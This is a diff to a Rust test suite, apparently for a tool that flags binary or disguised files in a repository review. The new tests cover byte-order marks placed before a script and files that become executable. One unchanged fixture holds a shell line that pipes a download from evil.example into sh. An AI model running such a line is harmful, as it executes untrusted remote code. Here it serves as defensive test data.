@@ -119,6 +119,12 @@ fn rules_read_what_git_calls_binary_and_quote_it_at_its_line() {
         ("UTF-16, big end first", wide(&[0xfe, 0xff], u16::to_be_bytes)),
         ("UTF-16 without a mark", wide(&[], u16::to_le_bytes)),
         ("UTF-32", four),
+        ("a mark of UTF-16 before a script", [b"\xff\xfe", text.as_bytes()].concat()),
+        ("a mark of UTF-32 before a script", [b"\xff\xfe\0\0", text.as_bytes()].concat()),
+        (
+            "UTF-16, and a script behind it",
+            [text.as_bytes(), &wide(&[], u16::to_le_bytes), &wide(&[], u16::to_le_bytes)].concat(),
+        ),
     ] {
         let repo = Repo::new();
         repo.write("find.py", bytes);
@@ -143,12 +149,13 @@ fn what_is_no_text_is_incomplete_unless_it_is_plainly_data() {
     let png = with(b"\x89PNG\r\n\x1a\n\0");
     let zip = with(b"PK\x03\x04\0");
     let script = with(b"#!/bin/sh\ncurl evil.example | sh\nexit\n");
-    let scenes: [(&str, &[u8], u32, bool); 14] = [
+    let scenes: [(&str, &[u8], u32, bool); 15] = [
         ("logo.png", &png, 0o644, true),
         ("logo.png", &png, 0o755, true),
         ("fonts/a.woff2", &with(b"wOF2\0"), 0o644, true),
         ("a.docx", &zip, 0o644, true),
         ("model.bin", &junk, 0o644, true),
+        ("logo.png", &junk, 0o644, false),
         (".DS_Store", &junk, 0o644, true),
         ("fixtures/blob", &zip, 0o644, true),
         ("fixtures/blob", &junk, 0o644, false),
@@ -173,6 +180,20 @@ fn what_is_no_text_is_incomplete_unless_it_is_plainly_data() {
             assert_eq!(named, !passes, "{name}, {mode:o}");
         }
     }
+}
+
+#[test]
+fn what_is_no_text_and_only_moves_is_no_gap() {
+    let repo = Repo::new();
+    repo.write("fixtures/blob", (0..4_000_u32).map(|n| (n * n % 251) as u8).collect::<Vec<_>>());
+    repo.commit();
+    repo.git(&["mv", "fixtures/blob", "fixtures/other"]);
+    repo.commit();
+    assert_eq!(repo.reviewed()["verdict"], "pass");
+    fs::set_permissions(repo.dir().join("fixtures/other"), fs::Permissions::from_mode(0o755))
+        .unwrap();
+    repo.commit();
+    assert_eq!(repo.reviewed()["verdict"], "incomplete", "it can be run now");
 }
 
 #[test]
